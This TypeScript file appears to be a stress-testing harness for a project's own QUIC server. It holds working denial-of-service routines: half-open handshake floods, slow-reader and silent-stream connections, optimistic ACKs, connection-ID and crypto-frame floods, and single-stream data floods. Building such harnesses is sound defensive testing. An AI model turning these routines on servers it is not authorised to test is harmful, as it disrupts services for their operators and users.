import { randomBytes } from 'node:crypto';
import { setImmediate as turn, setTimeout as delay } from 'node:timers/promises';
import quiche from '@matrixai/quic/native/quiche.js';
import type { Config } from '@matrixai/quic/native/types.js';
import { applicationProtocol } from '@rookery/schemas/protocol';
import { makeClientConfig } from '@rookery/transport/quicConfig';
import { defaultQuicLimits, endpointLimits } from '@rookery/transport/quicLimits';
import {
  ackFrame,
  cryptoFrame,
  maxDataFrame,
  newConnectionIdFrame,
  pingFrame,
  streamFrame,
  type QuicFrame,
} from '@rookery/transport/testing/quicFrames';
import { AttackPeer } from './attackPeer.js';
import { AttackSocket } from './attackSocket.js';
import type { AttackKind, AttackReply, AttackRequest } from './hostileMessages.js';

/** Addresses of an attack. */
const addresses = 128;
/** Peers of an attack that holds connections. */
const peersAtOnce = 32;
/** Packets that a peer sends in a turn, and turns a second. */
const packetsPerTurn = 20;
const turnMs = 5;
const halfOpenPerTurn = 5;
const noBytes = new Uint8Array(0);
const streamsMax = 32;

type SteadyKind = Exclude<AttackKind, 'halfOpen'>;

/** What a peer sends in its turn, once it is connected. */
const crafted: Record<SteadyKind, (peer: AttackPeer, packet: number) => readonly QuicFrame[]> = {
  slowReader: () => [pingFrame],
  silentStreams: (_peer, packet) =>
    packet > 0
      ? [pingFrame]
      : Array.from({ length: streamsMax }, (_, index) => streamFrame(2 + 4 * index, 0, noBytes)),
  optimisticAck: () => [ackFrame(2 ** 30, 2 ** 30), maxDataFrame(2 ** 40)],
  retireIds: (peer, packet) =>
    filled(peer, (index) => {
      const sequence = 1 + packet * 30 + index;
      return newConnectionIdFrame(sequence, sequence, randomBytes(16), randomBytes(16));
    }),
  cryptoGaps: (peer, packet) =>
    filled(peer, (index) => cryptoFrame(1 + (packet * 300 + index) * 2, Uint8Array.of(1))),
  oneStream: (_peer, packet) => [streamFrame(2, packet * 1_100, new Uint8Array(1_100))],
};

/** Those that only somebody who is logged in can do. */
const loggedIn: ReadonlySet<AttackKind> = new Set(['slowReader', 'optimisticAck']);
/** Those that send now and then, to be kept for alive. */
const quiet: ReadonlySet<AttackKind> = new Set(['slowReader', 'silentStreams']);
const quietTurnMs = 1_000;

/** Does one attack for as long as it is asked for. */
export async function attack(request: AttackRequest): Promise<AttackReply> {
  const sockets = await Promise.all(
    Array.from({ length: addresses }, (_, number) => AttackSocket.open(number, request.port)),
  );
  const { kind } = request;
  const connections =
    kind === 'halfOpen'
      ? await beginHandshakes(sockets, request)
      : await attackSteadily(sockets.slice(0, peersAtOnce), { ...request, kind });
  const sum = (of: (socket: AttackSocket) => number): number =>
    sockets.reduce((total, socket) => total + of(socket), 0);
  await Promise.all(sockets.map((socket) => socket.close()));
  return { packets: sum(({ packets }) => packets), bytes: sum(({ bytes }) => bytes), connections };
}

/** Each proves its address, gets the server's first answer, and says nothing more. */
async function beginHandshakes(
  sockets: readonly AttackSocket[],
  { seconds, handshakes }: AttackRequest,
): Promise<number> {
  const endMs = performance.now() + seconds * 1_000;
  const { local: localAddress } = sockets[0]!;
  const config = makeClientConfig({
    alpn: applicationProtocol,
    limits: defaultQuicLimits,
    localAddress,
  });
  let begun = 0;
  while (begun < handshakes || performance.now() < endMs) {
    for (let index = 0; index < halfOpenPerTurn; index++) {
      beginHandshake(sockets[begun % sockets.length]!, config);
      begun++;
    }
    await delay(turnMs);
  }
  return begun;
}

function beginHandshake(socket: AttackSocket, config: Config): void {
  const { local, server } = socket;
  const native = quiche.Connection.connect('x', randomBytes(16), local, server, config);
  const packet = new Uint8Array(endpointLimits.packetBytesMax);
  const flush = (): void => {
    for (let sent = native.send(packet); sent !== null; sent = native.send(packet)) {
      socket.send(packet.slice(0, sent[0]));
    }
  };
  let heard = 0;
  socket.onPacket = (answer) => {
    heard++;
    // The first is the Retry; what it answers to that is the second Initial.
    if (heard > 1) return;
    native.recv(new Uint8Array(answer), { from: server, to: local });
    flush();
  };
  flush();
}

/** Nobody else's: two of one name are not let in. */
function newName(): string {
  return `Peer ${randomBytes(8).toString('hex')}`;
}

/** Each address has a peer; one that is thrown out comes back. */
async function attackSteadily(
  sockets: readonly AttackSocket[],
  { kind, seconds, bytes }: AttackRequest & { readonly kind: SteadyKind },
): Promise<number> {
  const endMs = performance.now() + seconds * 1_000;
  let connections = 0;
  const sentBytes = (): number => sockets.reduce((sum, socket) => sum + socket.bytes, 0);
  const isDone = (): boolean =>
    performance.now() >= endMs && (kind !== 'oneStream' || sentBytes() >= bytes);
  const goOn = async (socket: AttackSocket): Promise<void> => {
    while (!isDone()) {
      const peer = await AttackPeer.connect(socket);
      if (peer === null || (loggedIn.has(kind) && !(await peer.login(newName())))) {
        await delay(quietTurnMs);
        continue;
      }
      connections++;
      if (loggedIn.has(kind)) peer.stopHearing();
      for (let packet = 0; !peer.isOver && !isDone();) {
        const count = quiet.has(kind) ? 1 : packetsPerTurn;
        for (let index = 0; index < count; index++) peer.craft(crafted[kind](peer, packet++));
        await (kind === 'oneStream' ? turn() : delay(quiet.has(kind) ? quietTurnMs : turnMs));
      }
      peer.leave();
    }
  };
  await Promise.all(sockets.map(goOn));
  return connections;
}

function filled(peer: AttackPeer, make: (index: number) => QuicFrame): QuicFrame[] {
  const frames: QuicFrame[] = [];
  let bytes = 0;
  for (let index = 0; ; index++) {
    const frame = make(index);
    bytes += frame.length;
    if (bytes > peer.framesBytesMax) return frames;
    frames.push(frame);
  }
}
